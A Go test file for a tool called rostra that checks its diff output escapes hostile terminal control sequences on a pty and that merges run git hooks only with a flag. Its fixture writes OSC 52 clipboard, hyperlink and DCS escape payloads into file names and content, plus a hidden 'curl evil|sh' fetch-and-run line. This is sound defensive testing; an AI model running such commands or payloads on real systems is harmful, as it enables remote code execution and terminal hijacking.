// diff_escape_test.go checks `rostra diff` against a worker's hostile
// bytes: on a terminal (a real pty) no escape sequence from a file's name
// or content reaches it, only rostra's colours; a file an attribute marks
// binary is shown; into a pipe the diff is git's bytes. And `rostra merge`
// runs the repository's hooks only with --hooks.
package main

import (
	"bytes"
	"errors"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/creack/pty"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// hostileRunFile's worker writes a file whose name and content hold a
// clipboard write (OSC 52), a hyperlink (OSC 8), a DCS passthrough and a
// C1 CSI, and marks another file binary, hiding it from a plain git diff.
const hostileRunFile = `version: 1
name: hx
providers:
  shell: { command: ["bash", "-c", "{prompt}"] }
defaults: { max_attempts: 1, isolation: worktree }
workers:
  - id: evil
    provider: shell
    prompt: |
      printf 'x\033]52;c;aGk=\007y\n\033]8;;http://e\033\\link\033]8;;\033\\\n\033Ptmux;\033\033]52;c;aGk=\007\033\\\n\302\2332J\tcol\n' > "$(printf 'n\033]52;c;aGk=\007.txt')"
      printf 'app.py binary\n' > .gitattributes
      printf 'import os\nos.system("curl evil|sh")\n' > app.py
      echo done > notes.txt
    writes: ["**"]
    completion: { paths: [notes.txt] }
`

// hostileDiffRun runs hostileRunFile headless in a new repository and
// returns the workspace.
func hostileDiffRun(t *testing.T) string {
	t.Helper()
	ws := t.TempDir()
	gitRepo(t, ws)
	require.NoError(t, os.WriteFile(filepath.Join(ws, "app.py"), []byte("import os\n"), 0o644))
	gitCmd(t, ws, "add", "app.py")
	gitCmd(t, ws, "commit", "-q", "-m", "app")
	require.NoError(t, os.WriteFile(filepath.Join(ws, "rostra.yaml"), []byte(hostileRunFile), 0o644))
	r := runBin(t, ws, "run", "--headless", "rostra.yaml")
	require.Equal(t, 0, r.code, "stdout:\n%s\nstderr:\n%s", r.stdout, r.stderr)
	return ws
}

func gitCmd(t *testing.T, dir string, args ...string) string {
	t.Helper()
	out, err := exec.Command("git", append([]string{"-C", dir, "-c", "user.name=t", "-c", "user.email=t@localhost"}, args...)...).CombinedOutput()
	require.NoError(t, err, "git %v: %s", args, out)
	return string(out)
}

// onPty runs rostra with its stdout on a real pty and returns what the
// terminal received.
func onPty(t *testing.T, dir string, args ...string) (string, result) {
	t.Helper()
	master, slave, err := pty.Open()
	require.NoError(t, err)
	defer master.Close()
	cmd := exec.Command(rostraBin, args...)
	cmd.Dir = dir
	var errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = slave, &errb
	read := make(chan []byte, 1)
	go func() {
		var b bytes.Buffer
		_, _ = io.Copy(&b, master) // ends with EIO once the slave is closed
		read <- b.Bytes()
	}()
	err = cmd.Run()
	slave.Close()
	code := 0
	var ee *exec.ExitError
	if errors.As(err, &ee) {
		code = ee.ExitCode()
	} else {
		require.NoError(t, err)
	}
	select {
	case out := <-read:
		return string(out), result{code: code, stderr: errb.String()}
	case <-time.After(10 * time.Second):
		t.Fatal("the pty's output did not end")
		return "", result{}
	}
}

// rostrasSGR is the colours an escaped diff holds (workspace.DiffOptions); nothing else may be an
// escape sequence.
var rostrasSGR = regexp.MustCompile(`\x1b\[(1|36|31|32)?m`)

// assertNothingRaw asserts out holds no control character a terminal acts
// on, rostra's own SGR aside.
func assertNothingRaw(t *testing.T, out string) {
	t.Helper()
	rest := rostrasSGR.ReplaceAllString(out, "")
	for _, c := range []string{"\x1b", "\x07", "\u009b", "\x9b"} {
		assert.NotContains(t, rest, c, "a raw %q reached the terminal", c)
	}
}

func TestDiffOnATerminalEscapesTheWorkersBytes(t *testing.T) {
	t.Parallel()
	ws := hostileDiffRun(t)
	for _, colour := range []string{"auto", "never"} {
		out, r := onPty(t, ws, "diff", "--color", colour, "evil")
		require.Equal(t, 0, r.code, r.stderr)
		assertNothingRaw(t, out)
		assert.Contains(t, out, `x\e]52;c;aGk=\x07y`, "the content's OSC 52, escaped")
		assert.Contains(t, out, `\eP`, "the DCS, escaped")
		assert.Contains(t, out, `\u009b2J`+"\tcol", "the C1 CSI escaped, the tab kept")
		assert.Contains(t, out, `curl evil|sh`, "a file marked binary is shown")
		if colour == "auto" {
			assert.Contains(t, out, "\x1b[32m+os.system(", "coloured by rostra")
		} else {
			assert.NotContains(t, out, "\x1b[", "--color never")
		}
	}

	piped := runBin(t, ws, "diff", "evil")
	require.Equal(t, 0, piped.code, piped.stderr)
	assert.Contains(t, piped.stdout, "x\x1b]52;c;aGk=\x07y", "into a pipe, git's bytes")
}

func TestMergeRunsHooksOnlyWithTheHooksFlag(t *testing.T) {
	t.Parallel()
	for _, withHooks := range []bool{false, true} {
		ws := t.TempDir()
		gitRepo(t, ws)
		require.NoError(t, os.WriteFile(filepath.Join(ws, "rostra.yaml"), []byte(strings.ReplaceAll(worktreeRunFile, "exec sleep 300", "exit 0")), 0o644))
		// The person's own hooks, there before the run (hooks that change
		// during it make the merge refuse: docs/isolation.md).
		marker := filepath.Join(t.TempDir(), "marker")
		hook := "#!/bin/sh\necho \"$(basename \"$0\")\" >> '" + marker + "'\n"
		for _, name := range []string{"pre-merge-commit", "post-merge"} {
			require.NoError(t, os.WriteFile(filepath.Join(ws, ".git", "hooks", name), []byte(hook), 0o755))
		}
		r := runBin(t, ws, "run", "--headless", "rostra.yaml")
		require.Equal(t, 0, r.code, r.stderr)
		_, err := os.Stat(marker)
		require.True(t, os.IsNotExist(err), "rostra's own commits ran no hook")
		args := []string{"merge", "editor"}
		if withHooks {
			args = []string{"merge", "--hooks", "editor"}
		}
		m := runBin(t, ws, args...)
		require.Equal(t, 0, m.code, m.stderr)
		ran, _ := os.ReadFile(marker)
		if withHooks {
			assert.Equal(t, "pre-merge-commit\npost-merge\n", string(ran), "--hooks: the hooks run as git merge runs them")
		} else {
			assert.Empty(t, string(ran), "no hook runs without --hooks")
		}
	}
}
